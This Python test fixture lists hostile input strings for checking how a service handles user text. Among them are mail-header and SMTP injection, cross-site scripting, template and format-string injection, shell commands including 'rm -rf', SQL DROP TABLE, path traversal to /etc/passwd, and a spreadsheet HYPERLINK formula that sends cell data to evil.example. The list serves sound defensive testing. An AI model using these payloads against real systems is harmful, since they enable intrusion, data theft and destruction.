"""Strings that have broken others: what anybody may type, send or upload."""

CODE = "131052-308T"
"""A personal identity code of nobody, its check character right."""
WIDE = "".join(chr(ord(sign) + 0xFEE0) for sign in CODE)
"""The same in the wide signs of East Asian type."""
EVIL = (
    # mail headers and addresses
    "Oulu\r\nBcc: x@evil.example",
    "Oulu\nBcc: x@evil.example",
    "=?utf-8?q?hi=0ABcc=3A_evil=40x?=",
    "Oulu\u2028Bcc: x@evil.example",
    "Oulu\x85Bcc: x@evil.example",
    "a@b.fi>\r\nRCPT TO:<evil@x",
    'Aalto, "Smith" <evil@x.example.org>, b@x.example.org;',
    "\n.\n",
    # signs nobody sees, and signs that are none
    "Oulu\x00",
    "Oulu\x1b[2J\x07",
    "\u202eneveS\u202c",
    "\u2066Oulu\u2069",
    "Ou\u200blu\ufeff",
    "\ud800",
    "\ue000",
    "e" + "\u0301" * 40,
    "e" + "\u0301" * 1_000_000,
    "x" * 5_000,
    "👩‍🌾 Oulu 🇫🇮",
    # code for somebody
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</textarea></title><svg onload=alert(1)>",
    "<!-- <at>everyone</at>",
    "&lt;b&gt; &amp;#60;",
    "javascript:alert(1)",
    "[x](javascript:alert(1)) [y](http://evil.example)",
    "![x](http://evil.example/p.png)",
    "<http://evil.example> http://evil.example www.evil.example",
    "| a | b |\n|---|---|\n# x\n```",
    "{{7*7}} {% raw %} {# x",
    "{0.__class__} {t} {config.SECRET}",
    "%s %(name)s %n",
    "$(touch /tmp/x) `id` ; rm -rf x | cat",
    "Robert'); DROP TABLE requests;--",
    # calendars, cards and typeset pages
    'CN="A";X=1:mailto:evil@x.example',
    "BEGIN:VEVENT\\nSUMMARY:x\\nRRULE:FREQ=SECONDLY",
    "\r\nATTACH:http://evil.example/x",
    '"}],"actions":[{"type":"Action.OpenUrl","url":"http://evil.example"}]}',
    "${data.secret} $(title)",
    "<at>everyone</at> <https://evil.example|x>",
    '#read("/etc/passwd") #import "x": *',
    "$x^2$ *b* _i_ @ref <label> \\#{",
    "\ufb01\u00adnnish\u3000\u00a0",
    "mailto:evil@x.example?bcc=all@x.example",
    # spreadsheets
    '=HYPERLINK("http://evil.example/?"&A2)',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    # numbers and names of files
    "1e309",
    "NaN",
    "\uff11\uff12",
    "-0",
    "../../etc/passwd",
    'CON.xlsx"\r\nX: 1',
    "\\\\evil.example\\share",
    # what is nobody's business
    f"hetu {CODE}",
    WIDE,
)
